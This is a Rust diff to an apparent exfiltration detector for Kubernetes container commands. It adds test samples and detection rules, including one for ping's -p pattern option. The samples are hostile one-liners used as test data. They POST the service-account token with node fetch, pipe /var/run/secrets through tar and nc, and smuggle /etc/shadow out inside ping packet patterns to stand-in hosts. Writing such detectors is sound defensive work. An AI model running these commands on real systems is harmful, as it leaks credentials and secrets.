@@ -95,6 +95,19 @@ pub(super) static RULES: &[Rule] = &[
                 "containers: [{name: a, command: [python3, -c, 'from urllib.request import urlopen; urlopen(\"http://203.0.113.5/\", data=open(\"/data/x\",\"rb\").read())']}]",
             ),
             Sample::Hit(
+                40,
+                "containers: [{name: a, command: [node, -e, 'fetch(\"https://x.example.test/\",{method:\"POST\",body:require(\"fs\").readFileSync(\"/var/run/secrets/kubernetes.io/serviceaccount/token\")})']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'tar cz /var/run/secrets | nc x.example.test 9000']}]",
+            ),
+            Sample::Hit(
+                40,
+                "containers: [{name: a, command: [sh, -c, 'xxd -p -c 16 /etc/shadow | while read l; do ping -c1 -p $l 203.0.113.9; done']}]",
+            ),
+            Sample::Miss("containers: [{name: a, command: [sh, -c, 'ping -c 1 -p ff $GATEWAY']}]"),
+            Sample::Hit(
                 15,
                 "containers: [{name: a, command: [curl, -F, 'file=@/out/report.pdf', 'https://files.example.test/up']}]",
             ),
@@ -361,8 +374,10 @@ fn by_http(invocation: &Invocation, secret: bool) -> Option<Weight> {
 
 fn by_code(code: &str, secret: bool) -> Option<Weight> {
     let sends_file =
-        code::any(code, &["data=open(", "files=", "data = open(", ".post(", ".put(", "createReadStream"])
-            && code::any(code, &["open(", "readFile", "createReadStream", "File.read", "os.environ"]);
+        code::any(
+            code,
+            &["data=", "files=", "data = open(", ".post(", ".put(", "createReadStream", "POST", "PUT"],
+        ) && code::any(code, &["open(", "readFile", "createReadStream", "File.read", "os.environ"]);
     let literals = code_strings::literals(code);
     let hosts = literals.iter().filter(|text| text.contains("://")).filter_map(|text| target(text));
     let weights = hosts.filter(|place| !is_api_server(place.host));
@@ -377,6 +392,10 @@ fn by_name(run: &Run<'_>, invocation: &Invocation, secret: bool) -> Option<Weigh
         let label = word.split('.').next().unwrap_or_default();
         label.starts_with('$') && target(word).is_some_and(|place| place.reach() == Reach::Named)
     });
+    // `ping -p PATTERN` puts it into the packets.
+    let carries = carries
+        || invocation.program == "ping"
+            && option(invocation, &["-p"]).is_some_and(|pattern| pattern.starts_with('$'));
     let encoded = || {
         let sources = invocation
             .inputs
